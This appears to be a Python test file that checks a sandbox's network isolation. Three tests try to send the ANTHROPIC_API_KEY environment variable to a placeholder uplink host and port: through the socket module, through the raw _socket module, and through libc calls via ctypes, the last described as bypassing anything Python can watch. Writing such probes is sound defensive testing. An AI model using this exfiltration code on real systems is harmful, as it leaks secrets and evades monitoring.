"""Hostile: send what it can find to an address beyond loopback: through the socket API, through
the C-level `_socket` module, and through libc itself, around anything Python can watch.
Only ever run inside a network namespace the harness created."""

import _socket
import ctypes
import os
import socket
import struct

UPLINK = "@@UPLINK@@"
PORT = int("@@PORT@@")


def payload():
    return ("exfil " + os.environ.get("ANTHROPIC_API_KEY", "no key")).encode()


def test_through_the_socket_module():
    try:
        with socket.create_connection((UPLINK, PORT), timeout=2) as conn:
            conn.sendall(payload())
            sent = True
    except OSError:
        sent = False
    assert sent, "the connection was refused"


def test_through_the_raw_socket_module():
    sock = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
    sock.settimeout(2)
    try:
        sock.connect((UPLINK, PORT))
        sock.sendall(payload())
        sent = True
    except OSError:
        sent = False
    finally:
        sock.close()
    assert sent, "no route out"


def test_through_libc():
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.socket(socket.AF_INET, socket.SOCK_STREAM, 0)
    # struct sockaddr_in: family in host byte order, port in network byte order
    address = struct.pack("=H", socket.AF_INET) + struct.pack("!H", PORT)
    address += socket.inet_aton(UPLINK) + bytes(8)
    try:
        connected = libc.connect(fd, address, len(address)) == 0
        if connected:
            data = payload()
            libc.send(fd, data, len(data), 0)
    finally:
        libc.close(fd)
    assert connected, "no route out"
